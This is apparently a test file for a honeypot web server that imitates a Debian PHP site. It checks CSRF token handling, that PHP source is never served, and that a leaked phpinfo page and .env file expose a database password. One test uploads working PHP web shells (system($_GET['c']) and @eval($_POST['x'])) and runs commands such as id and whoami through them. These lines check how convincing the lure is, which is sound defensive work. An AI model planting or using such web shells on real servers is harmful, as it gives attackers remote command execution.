import { createHash } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Identity } from '../../src/config/identity.ts'
import { createHosts } from '../../src/host/hosts.ts'
import http from '../../src/http/lure.ts'
import { MemoryState, noEngine, type Playing, play } from '../harness.ts'
import { ask, type Reply } from './ask.ts'

let playing: Playing

beforeAll(async () => {
  const identity = new Identity(Buffer.alloc(32, 7))
  const state = new MemoryState()
  playing = await play(http, { persona: 'debian-web', identity, state, hosts: createHosts({ identity, engine: noEngine, state }) })
})
afterAll(async () => playing.stop())

/** What a browser has when it has loaded a form. */
async function load(path: string): Promise<{ cookie: string; csrf: string }> {
  const page = await ask(playing, 'GET', path)
  const [, csrf = ''] = /name="csrf" value="([0-9a-f]{64})"/.exec(page.body) ?? []
  return { cookie: page.header('set-cookie')?.split(';')[0] ?? '', csrf }
}

function upload(name: string, bytes: string, { cookie, csrf }: { cookie: string; csrf: string }): Promise<Reply> {
  const part = (field: string, rest: string): string => `--x\r\nContent-Disposition: form-data; name="${field}"${rest}\r\n`
  const body = `${part('csrf', '')}\r\n${csrf}\r\n${part('email', '')}\r\na@b.example\r\n${part('drawing', `; filename="${name}"`)}\r\n${bytes}\r\n--x--\r\n`
  return ask(playing, 'POST', '/quote.php', { headers: { 'Content-Type': 'multipart/form-data; boundary=x', Cookie: cookie }, body })
}

describe('a form of the site', () => {
  it('takes back the token that it gave to this session, and no other', async () => {
    const visitor = await load('/contact/')
    expect(visitor.cookie).toMatch(/^TW_SESSID=[a-v0-9]{26}$/)
    const send = (csrf: string, cookie: string): Promise<Reply> =>
      ask(playing, 'POST', '/contact.php', {
        headers: { 'Content-Type': 'application/x-www-form-urlencoded', Cookie: cookie },
        body: `csrf=${csrf}&name=A&email=a%40b.example&message=hello`,
      })
    expect(await send(visitor.csrf, visitor.cookie)).toMatchObject({
      status: 200,
      body: expect.stringContaining('within two working days'),
    })
    expect(await send(visitor.csrf, (await load('/contact/')).cookie)).toMatchObject({ status: 419 })
    expect((await send('', '')).status).toBe(419)
    expect((await ask(playing, 'GET', '/contact.php')).header('location')).toBe('/contact/')
    const again = await ask(playing, 'GET', '/contact/', { headers: { Cookie: visitor.cookie } })
    expect(again.body).toContain(visitor.csrf)
    expect(again.header('set-cookie')).toBe(undefined)
  })

  it('that signs in gives a token too, takes it back, and writes down a pair that comes with a wrong one', async () => {
    const visitor = await load('/portal/')
    expect(visitor.csrf).toHaveLength(64)
    const send = (body: string, cookie = visitor.cookie): Promise<Reply> =>
      ask(playing, 'POST', '/portal/login.php', {
        headers: { 'Content-Type': 'application/x-www-form-urlencoded', Cookie: cookie },
        body,
      })
    expect((await send(`user=1107&pass=right&csrf=${visitor.csrf}`)).header('location')).toBe('/portal/orders.php')
    const expired = await send(`user=1107&pass=right&csrf=${visitor.csrf}`, (await load('/portal/')).cookie)
    expect(expired).toMatchObject({ status: 419, body: expect.stringContaining('The form has expired.') })
    expect(expired.body).toMatch(/name="csrf" value="[0-9a-f]{64}"/)
    expect((await send('user=1107&pass=right', '')).status).toBe(302)
    expect(playing.data('login').map(({ accepted }) => accepted)).toEqual([true, false, true])
    const wrong = await send('user=1107&pass=', visitor.cookie)
    expect(wrong.body).toContain(visitor.csrf)
    expect(wrong.body).not.toContain('<?')
  })

  it('never hands out its source', async () => {
    for (const path of ['/contact/', '/contact.php', '/contact/index.php', '/quote/index.php', '/info.php']) {
      for (const method of ['GET', 'HEAD', 'OPTIONS', 'PUT'])
        expect((await ask(playing, method, path)).body, `${method} ${path}`).not.toContain('<?')
    }
  })

  it('takes a web shell, which then runs on the host and computes exactly', async () => {
    const done = await upload('door.php', '<?php echo "<pre>"; system($_GET["c"]); ?>', await load('/quote/'))
    expect(done.body).toContain('<a href="/uploads/door.php">')
    expect((await ask(playing, 'GET', '/uploads/door.php?c=id;pwd;expr+7+%5C*+7')).body).toBe(
      '<pre>uid=33(www-data) gid=33(www-data) groups=33(www-data)\n/var/www/tarnholt/public/uploads\n49\n',
    )
    await upload('m.php', '<?php echo md5("c0ffee") . (1234*4321); unlink(__FILE__);', await load('/quote/'))
    expect((await ask(playing, 'GET', '/uploads/m.php')).body).toBe(`${createHash('md5').update('c0ffee').digest('hex')}5332114`)
    await upload('e.php', '<?php @eval($_POST["x"]);', await load('/quote/'))
    const form = { 'Content-Type': 'application/x-www-form-urlencoded' }
    const evaluated = await ask(playing, 'POST', '/uploads/e.php', {
      headers: form,
      body: `x=${encodeURIComponent('echo 6*7 ."|".sha1("a");system("whoami");')}`,
    })
    expect(evaluated.body).toBe('42|86f7e437faa5a7fce15d1ddcb9eaeaea377667b8www-data\n')
    expect((await ask(playing, 'GET', '/uploads/')).status).toBe(403)
  })

  it('takes nothing without the token', async () => {
    await upload('x.php', '<?php echo 1;', { cookie: '', csrf: '' })
    expect((await ask(playing, 'GET', '/uploads/x.php')).status).toBe(404)
  })
})

it('phpinfo() shows the settings of the application, with the secrets of this source', async () => {
  const { body, status } = await ask(playing, 'GET', '/info.php')
  const [, password] = /DB_PASS <\/td><td class="v">([A-Za-z0-9]{14}) </.exec(body) ?? []
  expect(status).toBe(200)
  expect(body).toContain('PHP Version 8.2.')
  expect((await ask(playing, 'GET', '/.env')).body).toContain(`DB_PASS=${password}\n`)
})
